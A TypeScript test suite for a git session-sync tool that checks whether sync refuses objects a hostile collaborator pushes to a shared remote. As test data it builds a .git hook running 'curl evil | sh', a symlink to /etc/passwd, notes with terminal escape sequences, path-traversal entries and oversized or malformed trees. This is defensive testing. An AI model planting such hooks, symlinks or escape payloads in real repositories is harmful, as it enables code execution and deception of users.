// A remote that someone hostile can push to, written with plain git: whatever it holds, `sync`
// leaves the repository whole (`git fsck --strict` clean, gc works, a push to a remote that runs
// receive.fsckObjects succeeds), keeps nothing it refused reachable, and is never blocked by it.
import { spawnSync } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { clonesOfOneRemote, cli, git, tempDir } from '../helpers.js';
import { manifestPath } from '../../src/store/session-store.js';
import { SAMPLE, blob, commit, fsckProblems, manifestTemplate, pushRef, tipOf, tree } from './forge.js';

const SESSIONS = 'refs/agentflow/sessions';
const NOTES = 'refs/notes/agentflow';

const run = (dir: string, env: NodeJS.ProcessEnv, args: string[]) => spawnSync('git', args, { cwd: dir, env, encoding: 'utf8' });
const isAncestor = (dir: string, env: NodeJS.ProcessEnv, a: string, b: string): boolean => run(dir, env, ['merge-base', '--is-ancestor', a, b]).status === 0;

/** A bare remote that checks every object it receives, as hosting services do, added to `dir` as `mirror`. */
function fsckingMirror(dir: string, env: NodeJS.ProcessEnv): string {
  const mirror = join(tempDir(), 'mirror.git');
  git(tempDir(), ['init', '-q', '--bare', mirror], env);
  git(mirror, ['config', 'receive.fsckObjects', 'true'], env);
  git(dir, ['remote', 'add', 'mirror', mirror], env);
  return mirror;
}

/** A valid manifest of `sessionId`, saved a minute ago. */
function manifestOf(template: any, sessionId: string, work = 'work'): string {
  const m = structuredClone(template);
  m.session_metadata.session_id = sessionId;
  m.active_state.current_work = work;
  m.session_metadata.timestamp = new Date(Date.now() - 60_000).toISOString();
  return JSON.stringify(m);
}

describe('a remote sessions ref that names no commit', () => {
  it('never blocks sync: the push replaces exactly the value fetched', () => {
    const { env, bare, clones } = clonesOfOneRemote('victim', 'mallory');
    expect(cli(['save', '-t', SAMPLE], { cwd: clones.victim, env }).status).toBe(0);
    pushRef(clones.mallory, env, SESSIONS, blob(clones.mallory, env, 'not a commit'));
    for (let i = 0; i < 2; i++) {
      const r = cli(['sync', '--json'], { cwd: clones.victim, env });
      expect(r.status, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout).pushed).toBe(true);
    }
    expect(git(bare, ['cat-file', '-t', SESSIONS], env)).toBe('commit');
    expect(git(bare, ['rev-parse', SESSIONS], env)).toBe(git(clones.victim, ['rev-parse', SESSIONS], env));
    expect(fsckProblems(clones.victim, env)).toBe('');
  });
});

describe('remote notes', () => {
  it('holding a gitlink are refused before any merge: fsck, gc and log --notes keep working', () => {
    const { env, clones } = clonesOfOneRemote('victim', 'mallory');
    const { victim, mallory } = clones;
    expect(cli(['save', '-t', SAMPLE], { cwd: victim, env }).status).toBe(0);
    expect(cli(['sync'], { cwd: victim, env }).status).toBe(0);
    expect(cli(['sync'], { cwd: mallory, env }).status).toBe(0);
    // Mallory's notes: the ones she fetched plus a submodule entry named like a note.
    const notesTree = git(mallory, ['ls-tree', NOTES], env).split('\n').filter(Boolean);
    notesTree.push(`160000 commit ${git(mallory, ['rev-parse', 'HEAD'], env)}\t${'ab'.repeat(20)}`);
    const evilTree = spawnSync('git', ['mktree'], { cwd: mallory, env, input: `${notesTree.join('\n')}\n`, encoding: 'utf8' }).stdout.trim();
    const evil = commit(mallory, env, evilTree, [git(mallory, ['rev-parse', NOTES], env)], { message: 'Notes added by git notes add\n' });
    pushRef(mallory, env, NOTES, evil);
    // The victim has a note of her own to merge with.
    git(victim, ['commit', '-q', '--allow-empty', '-m', 'more work'], env);
    expect(cli(['save', '-t', SAMPLE, '--allow-unchanged'], { cwd: victim, env }).status).toBe(0);

    const r = cli(['sync', '--json'], { cwd: victim, env });
    expect(r.status, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).skipped.join('\n')).toMatch(/refs\/notes\/agentflow/);
    expect(r.stderr).toMatch(/git-session: skipped origin .*notes/);
    expect(isAncestor(victim, env, evil, NOTES)).toBe(false);
    expect(fsckProblems(victim, env)).toBe('');
    expect(run(victim, env, ['gc', '--quiet']).status).toBe(0);
    expect(run(victim, env, ['log', '--notes=agentflow', '-2']).status).toBe(0);
    // Both of the victim's notes are still there.
    expect(git(victim, ['notes', `--ref=${NOTES}`, 'list'], env).split('\n')).toHaveLength(2);
    const mirror = fsckingMirror(victim, env);
    expect(run(victim, env, ['push', '-q', 'mirror', `${NOTES}:${NOTES}`, `${SESSIONS}:${SESSIONS}`]).status).toBe(0);
    expect(git(mirror, ['cat-file', '-t', NOTES], env)).toBe('commit');
  });

  it('whose text holds terminal escape sequences are refused: git log --notes=agentflow prints nothing raw', () => {
    const { env, clones } = clonesOfOneRemote('victim', 'mallory');
    const { victim, mallory } = clones;
    expect(cli(['save', '-t', SAMPLE], { cwd: victim, env }).status).toBe(0);
    expect(cli(['sync'], { cwd: victim, env }).status).toBe(0);
    expect(cli(['sync'], { cwd: mallory, env }).status).toBe(0);
    // Mallory notes her own new commit with a note that clears the screen and retitles the terminal.
    git(mallory, ['commit', '-q', '--allow-empty', '-m', 'mallory work'], env);
    git(mallory, ['notes', `--ref=${NOTES}`, 'add', '-m', 'git-session: snapshot \u001b[2J\u001b]0;pwned\u0007 \u202eevil', 'HEAD'], env);
    pushRef(mallory, env, NOTES, git(mallory, ['rev-parse', NOTES], env));
    git(mallory, ['push', '-q', 'origin', 'HEAD:refs/heads/mallory'], env);

    const r = cli(['sync', '--json'], { cwd: victim, env });
    expect(r.status, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).skipped.join('\n')).toMatch(/control or invisible characters/);
    git(victim, ['fetch', '-q', 'origin', 'refs/heads/mallory:refs/heads/mallory'], env);
    const shown = run(victim, env, ['log', '--notes=agentflow', '-3', 'mallory']).stdout;
    expect(shown).not.toMatch(/[\u001b\u0007\u202e]/);
    expect(fsckProblems(victim, env)).toBe('');
  });

  it('that name a blob are never copied: amend with notes.rewriteRef and log --notes keep working', () => {
    const { env, clones } = clonesOfOneRemote('victim', 'mallory');
    const { victim, mallory } = clones;
    pushRef(mallory, env, NOTES, blob(mallory, env, 'not a commit'));
    const r = cli(['sync', '--json'], { cwd: victim, env });
    expect(r.status, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).skipped.join('\n')).toMatch(/refs\/notes\/agentflow: names no commit \(blob\)/);
    expect(run(victim, env, ['rev-parse', '-q', '--verify', NOTES]).status).not.toBe(0);
    git(victim, ['config', 'notes.rewriteRef', NOTES], env);
    expect(run(victim, env, ['commit', '-q', '--amend', '--no-edit']).status).toBe(0);
    expect(run(victim, env, ['log', '--notes=agentflow', '-1']).status).toBe(0);
    expect(fsckProblems(victim, env)).toBe('');
  });
});

type Entries = Record<string, { mode?: string; text?: string | Buffer; id?: string }>;

/** What an attacker adds to a snapshot's tree, each refused by sync; `fsck`: git's own fsck refuses it too. */
const HOSTILE: Record<string, { fsck?: boolean; entries: (dir: string, env: NodeJS.ProcessEnv) => Entries }> = {
  'a .. entry': { fsck: true, entries: () => ({ 'sessions/../evil': { text: 'x' } }) },
  'a .git entry': { fsck: true, entries: () => ({ '.git/hooks/post-checkout': { text: '#!/bin/sh\ncurl evil | sh\n' } }) },
  'a symlink': { entries: () => ({ [manifestPath('linked')]: { mode: '120000', text: '/etc/passwd' } }) },
  'a gitlink': {
    entries: (dir, env) => ({ [`sessions/${manifestPath('sub').split('/')[1]}/sub`]: { mode: '160000', id: git(dir, ['rev-parse', 'HEAD'], env) } }),
  },
  'a 100 MB blob': { entries: () => ({ [`sessions/${manifestPath('big').split('/')[1]}/big/trail/asks/0000.jsonl`]: { text: Buffer.alloc(100 << 20, 'x') } }) },
};

describe('a hostile commit on a remote', () => {
  for (const [what, { fsck, entries }] of Object.entries(HOSTILE)) {
    it(
      `holding ${what} never becomes history: honest snapshots below it are kept, fsck stays clean, an fsck-checking remote accepts the push`,
      { timeout: 60_000 },
      () => {
        const { env, bare, clones } = clonesOfOneRemote('victim', 'alice', 'mallory');
        const { victim, alice, mallory } = clones;
        expect(cli(['save', '-t', SAMPLE], { cwd: victim, env }).status).toBe(0);
        expect(cli(['sync'], { cwd: victim, env }).status).toBe(0);
        // Alice saves twice on top of what the remote holds, with plain git.
        const template = manifestTemplate(alice, env);
        git(alice, ['fetch', '-q', 'origin', `+${SESSIONS}:${SESSIONS}`], env);
        const snapshot = (parent: string, step: number) =>
          commit(alice, env, tree(alice, env, { [manifestPath('alice-session')]: { text: manifestOf(template, 'alice-session', `step ${step}`) } }), [parent], {
            message: `session alice-se: step ${step}\n\nSession-Id: alice-session\n`,
          });
        const aliceLast = snapshot(snapshot(tipOf(alice, env)!, 1), 2);
        pushRef(alice, env, SESSIONS, aliceLast);
        // Mallory builds on it: a valid session of her own, and something sync refuses.
        git(mallory, ['fetch', '-q', 'origin', `+${SESSIONS}:${SESSIONS}`], env);
        const evilTree = tree(mallory, env, { [manifestPath('mallory-good')]: { text: manifestOf(template, 'mallory-good') }, ...entries(mallory, env) });
        const evil = commit(mallory, env, evilTree, [aliceLast], { message: 'session mallory: x\n\nSession-Id: mallory-good\n' });
        pushRef(mallory, env, SESSIONS, evil);

        const r = cli(['sync', '--json'], { cwd: victim, env });
        expect(r.status, r.stderr).toBe(0);
        const report = JSON.parse(r.stdout);
        expect(report.skipped.join('\n')).toContain(evil.slice(0, 10));
        if (fsck) expect(report.skipped.join('\n')).toMatch(/git's fsck refused an object it sent/);
        const tip = git(victim, ['rev-parse', SESSIONS], env);
        expect(isAncestor(victim, env, evil, tip)).toBe(false);
        expect(run(victim, env, ['cat-file', '-e', evil]).status).not.toBe(0);
        // Alice's snapshots are history here, and her session and mallory's valid one are taken.
        expect(isAncestor(victim, env, aliceLast, tip)).toBe(true);
        const files = git(victim, ['ls-tree', '-r', '--name-only', tip], env).split('\n');
        expect(files).toContain(manifestPath('alice-session'));
        expect(files).toContain(manifestPath('mallory-good'));
        expect(files.every((f) => /^sessions\/[0-9a-f]{2}\/[^/]+\/(manifest\.json|trail\/.*)$/.test(f))).toBe(true);
        expect(fsckProblems(victim, env)).toBe('');
        expect(readdirSync(join(victim, '.git', 'objects')).filter((n) => n.startsWith('tmp_'))).toEqual([]);
        // The remote now holds the victim's clean history in place of mallory's commit.
        expect(git(bare, ['rev-parse', SESSIONS], env)).toBe(tip);
        const mirror = fsckingMirror(victim, env);
        const pushed = run(victim, env, ['push', 'mirror', `${SESSIONS}:${SESSIONS}`, `${NOTES}:${NOTES}`]);
        expect(pushed.status, pushed.stderr).toBe(0);
        expect(git(mirror, ['rev-parse', SESSIONS], env)).toBe(tip);
        // A second sync has nothing left to refuse.
        const again = JSON.parse(cli(['sync', '--json'], { cwd: victim, env }).stdout);
        expect(again).toMatchObject({ sessions: 'up to date', skipped: [] });
      },
    );
  }
});

describe('a commit git itself calls broken', () => {
  it("(a tree with a duplicate entry, every path one a save writes) is refused by git's fsck and never becomes history", () => {
    const { env, clones } = clonesOfOneRemote('victim', 'mallory');
    const { victim, mallory } = clones;
    expect(cli(['save', '-t', SAMPLE], { cwd: victim, env }).status).toBe(0);
    expect(cli(['sync'], { cwd: victim, env }).status).toBe(0);
    const text = manifestOf(manifestTemplate(mallory, env), 'dup');
    const id = Buffer.from(blob(mallory, env, text), 'hex');
    const entry = Buffer.concat([Buffer.from('100644 manifest.json\0'), id]);
    const dup = spawnSync('git', ['hash-object', '-t', 'tree', '--literally', '-w', '--stdin'], {
      cwd: mallory,
      env,
      input: Buffer.concat([entry, entry]),
      encoding: 'utf8',
    }).stdout.trim();
    const [, shard] = manifestPath('dup').split('/');
    const shardTree = spawnSync('git', ['mktree'], { cwd: mallory, env, input: `040000 tree ${dup}\tdup\n`, encoding: 'utf8' }).stdout.trim();
    const sessionsTree = spawnSync('git', ['mktree'], { cwd: mallory, env, input: `040000 tree ${shardTree}\t${shard}\n`, encoding: 'utf8' }).stdout.trim();
    const root = spawnSync('git', ['mktree'], { cwd: mallory, env, input: `040000 tree ${sessionsTree}\tsessions\n`, encoding: 'utf8' }).stdout.trim();
    git(mallory, ['fetch', '-q', 'origin', `+${SESSIONS}:${SESSIONS}`], env);
    const evil = commit(mallory, env, root, [tipOf(mallory, env)!], { message: 'session dup\n\nSession-Id: dup\n' });
    pushRef(mallory, env, SESSIONS, evil);

    const r = cli(['sync', '--json'], { cwd: victim, env });
    expect(r.status, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).skipped.join('\n')).toMatch(/git's fsck refused an object it sent \(object [0-9a-f]+: duplicateEntries/);
    expect(isAncestor(victim, env, evil, SESSIONS)).toBe(false);
    // Its manifest is a valid one: taken, in a tree of its own.
    expect(git(victim, ['ls-tree', '-r', '--name-only', SESSIONS], env).split('\n')).toContain(manifestPath('dup'));
    expect(fsckProblems(victim, env)).toBe('');
    fsckingMirror(victim, env);
    expect(run(victim, env, ['push', '-q', 'mirror', `${SESSIONS}:${SESSIONS}`]).status).toBe(0);
  });
});
